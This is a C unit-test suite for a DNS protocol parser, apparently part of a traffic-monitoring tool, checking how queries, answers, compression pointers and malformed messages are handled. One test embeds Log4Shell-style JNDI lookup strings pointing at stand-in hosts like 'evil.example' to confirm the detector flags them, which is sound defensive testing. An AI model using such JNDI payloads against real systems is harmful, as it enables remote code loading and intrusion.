// SPDX-License-Identifier: GPL-2.0-or-later
// DNS over UDP and TCP: names, addresses, aliases; compression that loops; what is not DNS.
#include "talk.h"

static const struct proto_flow tcp_out = {
	.direction = DIRECTION_OUT,
	.transport = 6,
	.client_port = 40000,
	.server_port = 53,
};
static const struct proto_flow udp_out = {
	.direction = DIRECTION_OUT,
	.transport = 17,
	.client_port = 40000,
	.server_port = 53,
	.client = {.family = 4, .b = {10, 0, 0, 5}},
};
static struct caught caught;
static struct maker m;

static void make_header(struct maker *to, uint16_t flags, unsigned questions, unsigned answers)
{
	make_number(to, 0x1234, 2);
	make_number(to, flags, 2);
	make_number(to, questions, 2);
	make_number(to, answers, 2);
	make_number(to, 0, 4);
}

// "www.example" as labels, with the root label.
static void make_name(struct maker *to, const char *name)
{
	while (*name) {
		size_t n = strcspn(name, ".");

		MAKE(to, (uint8_t)n);
		make(to, name, n);
		name += n + (name[n] == '.');
	}
	MAKE(to, 0);
}

static void make_question(struct maker *to, const char *name, uint16_t type)
{
	make_name(to, name);
	make_number(to, type, 2);
	make_number(to, 1, 2);
}

// A record whose owner is a pointer to the question.
static void make_record(struct maker *to, uint16_t type, const void *data, size_t n)
{
	MAKE(to, 0xc0, 12);
	make_number(to, type, 2);
	make_number(to, 1, 2);
	make_number(to, 300, 4);
	make_number(to, n, 2);
	make(to, data, n);
}

static void make_answer(struct maker *to)
{
	static const uint8_t alias[] = {3, 'c', 'd', 'n', 0xc0, 12};
	static const uint8_t v4[] = {192, 0, 2, 1}, v6[16] = {0x20, 0x01, 0x0d, 0xb8, [15] = 1};

	make_header(to, 0x8180, 1, 3);
	make_question(to, "WWW.Example", 1);
	make_record(to, 5, alias, sizeof(alias));
	make_record(to, 1, v4, sizeof(v4));
	make_record(to, 28, v6, sizeof(v6));
}

static void feed(const struct maker *datagram)
{
	struct line line = {true, made(datagram)};
	struct talk talk = {.ops = &proto_dns_udp, .flow = udp_out, .lines = &line, .count = 1};

	talk_play(&talk, 0, 0, 0, &caught);
}

START_TEST(a_query_tells_name_and_type)
{
	m.n = 0;
	make_header(&m, 0x0100, 1, 0);
	make_question(&m, "WWW.Example", 16);
	ck_assert_int_eq(proto_dns_udp.probe(made(&m), true), PROBE_YES);
	feed(&m);
	ck_assert_uint_eq(caught.count, 1);
	ck_assert_uint_eq(caught.o[0].kind, OBS_DNS);
	ck_assert_uint_eq(caught.o[0].flags8, 0);
	ck_assert_uint_eq(caught.o[0].number[NUM_DNS_ID], 0x1234);
	ck_assert_uint_eq(caught.o[0].number[NUM_DNS_TYPE], 16);
	talk_expect_text(&caught.o[0], TEXT_DNS_NAME, "www.example");
}
END_TEST

static void expect_answer(const struct observation *o)
{
	struct bytes addresses = observation_text(o, TEXT_DNS_ADDRESSES);
	struct address first, second;
	char text[ADDRESS_TEXT_BYTES];

	ck_assert_uint_eq(o->flags8, OBS_FLAG_RESPONSE);
	ck_assert_uint_eq(o->number[NUM_DNS_ANSWERS], 3);
	talk_expect_text(o, TEXT_DNS_NAME, "www.example");
	talk_expect_text(o, TEXT_DNS_CNAME, "cdn.www.example");
	ck_assert_uint_eq(addresses.left, 2 * sizeof(struct address));
	memcpy(&first, addresses.at, sizeof(first));
	memcpy(&second, addresses.at + sizeof(first), sizeof(second));
	ck_assert_str_eq(address_format(&first, text), "192.0.2.1");
	ck_assert_str_eq(address_format(&second, text), "2001:db8::1");
}

START_TEST(an_answer_tells_addresses_and_the_first_alias)
{
	m.n = 0;
	make_answer(&m);
	ck_assert_int_eq(proto_dns_udp.probe(made(&m), false), PROBE_YES);
	feed(&m);
	ck_assert_uint_eq(caught.count, 1);
	expect_answer(&caught.o[0]);
}
END_TEST

// Names and texts of an answer are logged as those of a question are.
START_TEST(a_look_up_in_an_answers_records_is_found)
{
	static const uint16_t types[] = {5, 12, 16}; // CNAME, PTR, TXT
	static struct maker data;

	for (size_t i = 0; i < sizeof(types) / sizeof(types[0]); i++) {
		struct line line = {false, {NULL, 0}};
		struct talk talk = {.ops = &proto_dns_udp, .flow = udp_out, .lines = &line, .count = 1};

		m.n = data.n = 0;
		make_header(&m, 0x8180, 1, 1);
		make_question(&m, "www.example", types[i]);
		make_name(&data, types[i] == 5 ? "${jndi:ldap://evil.example/a}" : "${jndi:ldap://evil/a}");
		make_record(&m, types[i], data.b, data.n);
		line.said = made(&m);
		talk_play(&talk, 0, 0, 0, &caught);
		ck_assert_uint_eq(caught.count, 2);
		ck_assert_uint_eq(caught.o[1].kind, OBS_JNDI);
		talk_expect_text(&caught.o[1], TEXT_JNDI_HOST, types[i] == 5 ? "evil.example" : "evil");
	}
}
END_TEST

START_TEST(empty_messages_before_the_first_hide_nothing)
{
	static const uint8_t zeros[12];

	m.n = 0;
	make_header(&m, 0x0100, 1, 0);
	make_question(&m, "www.example", 1);
	for (size_t empty = 0; empty <= 6; empty++) {
		uint8_t stream[128] = {0};

		stream[2 * empty + 1] = (uint8_t)m.n;
		memcpy(stream + 2 * empty + 2, m.b, m.n);
		ck_assert_int_eq(proto_dns_tcp.probe(bytes_of(stream, 2 * empty + 2 + m.n), true), empty <= 4 ? PROBE_YES : PROBE_NO);
	}
	ck_assert_int_eq(proto_dns_tcp.probe(bytes_of(zeros, 8), true), PROBE_MAYBE);
	ck_assert_int_eq(proto_dns_tcp.probe(bytes_of(zeros, 12), true), PROBE_NO);
}
END_TEST

START_TEST(every_cut_datagram_is_told_as_far_as_it_goes_or_refused)
{
	static struct maker cut;

	m.n = 0;
	make_answer(&m);
	for (size_t n = 0; n < m.n; n++) {
		cut.n = 0;
		make(&cut, m.b, n);
		feed(&cut);
		ck_assert_uint_eq(caught.count, n >= 12 + 13 + 4); // header, name, type and class
	}
}
END_TEST

START_TEST(two_questions_are_told_and_an_answer_that_cannot_be_read_is_marked)
{
	m.n = 0;
	make_header(&m, 0x0100, 2, 0);
	make_question(&m, "www.example", 1);
	make_question(&m, "other.example", 16);
	feed(&m);
	ck_assert_uint_eq(caught.count, 2); // which one is answered is the server's choice
	talk_expect_text(&caught.o[0], TEXT_DNS_NAME, "www.example");
	talk_expect_text(&caught.o[1], TEXT_DNS_NAME, "other.example");
	ck_assert_uint_eq(caught.o[1].number[NUM_DNS_TYPE], 16);
	ck_assert_uint_eq(caught.o[0].number[NUM_DNS_QUESTIONS], 2);
	ck_assert_uint_eq(caught.o[0].number[NUM_DNS_MALFORMED], 0);
	m.n = 0;
	make_header(&m, 0x8180, 1, 2);
	make_question(&m, "www.example", 1);
	make_record(&m, 1, "\xc0\0\2\1", 4);
	MAKE(&m, 0xc0, (uint8_t)m.n); // a name that is itself
	make_number(&m, 0, 10);
	feed(&m);
	ck_assert_uint_eq(caught.count, 1);
	ck_assert_uint_eq(caught.o[0].number[NUM_DNS_QUESTIONS], 0);
	ck_assert_uint_eq(caught.o[0].number[NUM_DNS_MALFORMED], 1);
	ck_assert_uint_eq(observation_text(&caught.o[0], TEXT_DNS_ADDRESSES).left, sizeof(struct address));
}
END_TEST

START_TEST(at_most_eight_addresses_are_told)
{
	static const uint8_t v4[] = {192, 0, 2, 1};

	m.n = 0;
	make_header(&m, 0x8180, 1, 100);
	make_question(&m, "a", 1);
	for (unsigned i = 0; i < 100; i++)
		make_record(&m, 1, v4, sizeof(v4));
	feed(&m);
	ck_assert_uint_eq(caught.count, 1);
	ck_assert_uint_eq(observation_text(&caught.o[0], TEXT_DNS_ADDRESSES).left, 8 * sizeof(struct address));
	ck_assert_uint_eq(caught.o[0].number[NUM_DNS_ANSWERS], 100);
}
END_TEST

START_TEST(odd_bytes_in_names_are_escaped)
{
	m.n = 0;
	make_header(&m, 0x0100, 1, 0);
	MAKE(&m, 6, 'A', '.', '\\', 0, 0xff, ' ', 1, 'b', 0);
	MAKE(&m, 0, 1, 0, 1);
	feed(&m);
	ck_assert_uint_eq(caught.count, 1);
	talk_expect_text(&caught.o[0], TEXT_DNS_NAME, "a\\046\\092\\000\\255\\032.b");
}
END_TEST

START_TEST(pointers_that_loop_or_leave_the_message_are_said)
{
	static const uint8_t names[][2] = {{0xc0, 12}, {0xff, 0xff}, {0xc0, 14}, {0x80, 0}, {0x40, 0}};

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		bool ends = names[i][0] >= 0xc0; // where it does, the message goes on

		m.n = 0;
		make_header(&m, 0x0100, 2, 0);
		make(&m, names[i], 2);
		MAKE(&m, 0, 1, 0, 1);
		make_question(&m, "other.example", 16);
		feed(&m);
		ck_assert_uint_eq(caught.count, ends ? 2 : 0);
		ck_assert_int_eq(caught.result, ends ? PARSE_MORE : PARSE_BAD);
		if (!ends)
			continue;
		ck_assert_uint_eq(caught.o[0].number[NUM_DNS_MALFORMED], i != 2); // 0xc00e points at a zero octet, the root
		ck_assert_int_eq(caught.marked[COUNT_PROTO_BAD], i != 2);
		talk_expect_text(&caught.o[1], TEXT_DNS_NAME, "other.example");
	}
}
END_TEST

START_TEST(a_name_longer_than_255_octets_is_told_as_far_as_that_and_hides_nothing)
{
	static const char label[] = "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"; // 63
	static const uint8_t v4[] = {192, 0, 2, 1};

	for (unsigned labels = 3; labels <= 200; labels = labels < 5 ? labels + 1 : labels + 97) {
		m.n = 0;
		make_header(&m, 0x8180, 2, 1);
		for (unsigned i = 0; i < labels; i++) {
			MAKE(&m, 63);
			make(&m, label, 63);
		}
		MAKE(&m, 0, 0, 1, 0, 1);
		make_question(&m, "other.example", 16);
		make_record(&m, 1, v4, sizeof(v4));
		feed(&m);
		ck_assert_uint_eq(caught.count, 2);
		ck_assert_uint_eq(observation_text(&caught.o[0], TEXT_DNS_NAME).left, 3 * 64 - 1);
		ck_assert_uint_eq(caught.o[0].number[NUM_DNS_MALFORMED], labels > 3);
		ck_assert_int_eq(caught.marked[COUNT_PROTO_BAD], labels > 3);
		ck_assert_uint_eq(observation_text(&caught.o[0], TEXT_DNS_ADDRESSES).left, sizeof(struct address));
		talk_expect_text(&caught.o[1], TEXT_DNS_NAME, "other.example");
	}
}
END_TEST

START_TEST(a_multicast_answer_without_question_is_named_by_its_first_record)
{
	static const uint8_t v4[] = {192, 0, 2, 1};

	m.n = 0;
	make_header(&m, 0x8400, 0, 1);
	make_name(&m, "printer.local");
	make_number(&m, 1, 2);
	make_number(&m, 0x8001, 2);
	make_number(&m, 120, 4);
	make_number(&m, sizeof(v4), 2);
	make(&m, v4, sizeof(v4));
	ck_assert_int_eq(proto_dns_udp.probe(made(&m), false), PROBE_YES);
	feed(&m);
	ck_assert_uint_eq(caught.count, 1);
	talk_expect_text(&caught.o[0], TEXT_DNS_NAME, "printer.local");
	ck_assert_uint_eq(caught.o[0].number[NUM_DNS_TYPE], 1);
}
END_TEST

START_TEST(the_devices_own_address_in_a_name_is_a_fact)
{
	m.n = 0;
	make_header(&m, 0x0100, 1, 0);
	make_question(&m, "10.0.0.5.evil.example", 1);
	feed(&m);
	ck_assert_uint_eq(caught.count, 1);
	ck_assert(caught.o[0].facts & FACT_BIT(FACT_SELF_ADDRESS));
}
END_TEST

START_TEST(messages_over_tcp_are_found_in_any_cut)
{
	static struct maker message, query, answer;
	struct line lines[2];
	struct talk talk = {.ops = &proto_dns_tcp, .flow = tcp_out, .lines = lines, .count = 2};

	message.n = query.n = answer.n = 0;
	make_header(&message, 0x0100, 1, 0);
	make_question(&message, "www.example", 1);
	for (unsigned i = 0; i < 2; i++) {
		make_number(&query, message.n, 2);
		make(&query, message.b, message.n);
	}
	message.n = 0;
	make_answer(&message);
	make_number(&answer, message.n, 2);
	make(&answer, message.b, message.n);
	lines[0] = (struct line){true, made(&query)};
	lines[1] = (struct line){false, made(&answer)};
	talk_check(&talk, &caught);
	ck_assert_uint_eq(caught.count, 3);
	expect_answer(&caught.o[2]);
	talk_expect_probe(&proto_dns_tcp, made(&query), true);
	talk_expect_probe(&proto_dns_tcp, made(&answer), false);
}
END_TEST

START_TEST(a_tcp_message_longer_than_is_kept_is_told_and_passed_over)
{
	static struct maker message, stream;
	static uint8_t filler[40000];
	struct line line;
	struct talk talk = {.ops = &proto_dns_tcp, .flow = tcp_out, .lines = &line, .count = 1};

	message.n = stream.n = 0;
	make_answer(&message);
	make_number(&stream, message.n + sizeof(filler), 2);
	make(&stream, message.b, message.n);
	make(&stream, filler, sizeof(filler));
	make_number(&stream, message.n, 2);
	make(&stream, message.b, message.n);
	line = (struct line){false, made(&stream)};
	talk_check(&talk, &caught);
	ck_assert_uint_eq(caught.count, 2);
	expect_answer(&caught.o[0]);
	expect_answer(&caught.o[1]);
}
END_TEST

START_TEST(a_gap_ends_a_tcp_stream)
{
	struct line line;
	struct talk talk = {.ops = &proto_dns_tcp, .flow = tcp_out, .lines = &line, .count = 1, .gap_before = 1};

	m.n = 0;
	MAKE(&m, 0, 1);
	line = (struct line){true, made(&m)};
	talk_play(&talk, 0, 0, 0, &caught);
	ck_assert_int_eq(caught.result, PARSE_BAD);
}
END_TEST

START_TEST(a_datagram_on_other_ports_is_not_told)
{
	struct line line;
	struct talk talk = {.ops = &proto_dns_udp, .flow = udp_out, .lines = &line, .count = 1};

	m.n = 0;
	make_answer(&m);
	line = (struct line){true, made(&m)};
	talk.flow.server_port = 4000;
	talk_play(&talk, 0, 0, 0, &caught);
	ck_assert_uint_eq(caught.count, 0);
	ck_assert_int_eq(caught.result, PARSE_BAD);
	talk.flow.client_port = 5353;
	talk_play(&talk, 0, 0, 0, &caught);
	ck_assert_uint_eq(caught.count, 1);
}
END_TEST

START_TEST(bits_that_servers_do_not_look_at_hide_no_question)
{
	static const uint16_t flags[] = {0x0140, 0x0103, 0x0178};

	for (size_t i = 0; i < sizeof(flags) / sizeof(flags[0]); i++) {
		m.n = 0;
		make_header(&m, flags[i], 1, 0);
		make_question(&m, "www.example", 1);
		ck_assert_int_eq(proto_dns_udp.probe(made(&m), true), PROBE_YES);
		feed(&m);
		ck_assert_uint_eq(caught.count, 1);
		talk_expect_text(&caught.o[0], TEXT_DNS_NAME, "www.example");
	}
}
END_TEST

START_TEST(an_error_may_be_a_header_alone)
{
	m.n = 0;
	make_header(&m, 0x8181, 0, 0);
	ck_assert_int_eq(proto_dns_udp.probe(made(&m), false), PROBE_YES);
	feed(&m);
	ck_assert_uint_eq(caught.count, 1);
	ck_assert_uint_eq(caught.o[0].number[NUM_DNS_RCODE], 1);
	MAKE(&m, 0);
	ck_assert_int_eq(proto_dns_udp.probe(made(&m), false), PROBE_NO);
	m.n = 0;
	make_header(&m, 0x8180, 0, 0);
	ck_assert_int_eq(proto_dns_udp.probe(made(&m), false), PROBE_NO);
}
END_TEST

START_TEST(an_inverse_query_asks_by_an_answer)
{
	for (unsigned flags = 0x0100; flags <= 0x0900; flags += 0x0800) {
		m.n = 0;
		make_number(&m, 27, 2);
		make_header(&m, (uint16_t)flags, 0, 1);
		MAKE(&m, 0, 0, 1, 0, 1, 0, 0, 0x7a, 0x69, 0, 4, 4, 3, 2, 1);
		ck_assert_int_eq(proto_dns_tcp.probe(made(&m), true), flags == 0x0900 ? PROBE_YES : PROBE_NO);
	}
}
END_TEST

START_TEST(look_alikes_are_not_recognised)
{
	static const char *const texts[] = {"GET / HTTP/1.1\r\nHost: www.example\r\n", "\x16\x03\x01\x02",
					    "SSH-2.0-x\r\n"};

	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		ck_assert_int_eq(proto_dns_udp.probe(bytes_of_text(texts[i]), true), PROBE_NO);
		ck_assert_int_ne(proto_dns_tcp.probe(bytes_of_text(texts[i]), true), PROBE_YES);
	}
	m.n = 0; // NetBIOS name service
	make_header(&m, 0x0110, 1, 0);
	make_question(&m, "CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", 0x21);
	ck_assert_int_eq(proto_dns_udp.probe(made(&m), true), PROBE_NO);
	m.n = 0; // NTP
	MAKE(&m, 0x23, 2, 10, 0xec);
	make_number(&m, 0, 44);
	ck_assert_int_eq(proto_dns_udp.probe(made(&m), true), PROBE_NO);
}
END_TEST

int main(void)
{
	Suite *suite = suite_create("dns");
	TCase *t = tcase_create("dns");

	suite_add_tcase(suite, t);
	tcase_set_timeout(t, 100);
	tcase_add_test(t, a_query_tells_name_and_type);
	tcase_add_test(t, an_answer_tells_addresses_and_the_first_alias);
	tcase_add_test(t, a_look_up_in_an_answers_records_is_found);
	tcase_add_test(t, empty_messages_before_the_first_hide_nothing);
	tcase_add_test(t, every_cut_datagram_is_told_as_far_as_it_goes_or_refused);
	tcase_add_test(t, two_questions_are_told_and_an_answer_that_cannot_be_read_is_marked);
	tcase_add_test(t, at_most_eight_addresses_are_told);
	tcase_add_test(t, odd_bytes_in_names_are_escaped);
	tcase_add_test(t, pointers_that_loop_or_leave_the_message_are_said);
	tcase_add_test(t, a_name_longer_than_255_octets_is_told_as_far_as_that_and_hides_nothing);
	tcase_add_test(t, a_multicast_answer_without_question_is_named_by_its_first_record);
	tcase_add_test(t, the_devices_own_address_in_a_name_is_a_fact);
	tcase_add_test(t, messages_over_tcp_are_found_in_any_cut);
	tcase_add_test(t, a_tcp_message_longer_than_is_kept_is_told_and_passed_over);
	tcase_add_test(t, a_gap_ends_a_tcp_stream);
	tcase_add_test(t, a_datagram_on_other_ports_is_not_told);
	tcase_add_test(t, bits_that_servers_do_not_look_at_hide_no_question);
	tcase_add_test(t, an_error_may_be_a_header_alone);
	tcase_add_test(t, an_inverse_query_asks_by_an_answer);
	tcase_add_test(t, look_alikes_are_not_recognised);
	return talk_run(suite);
}
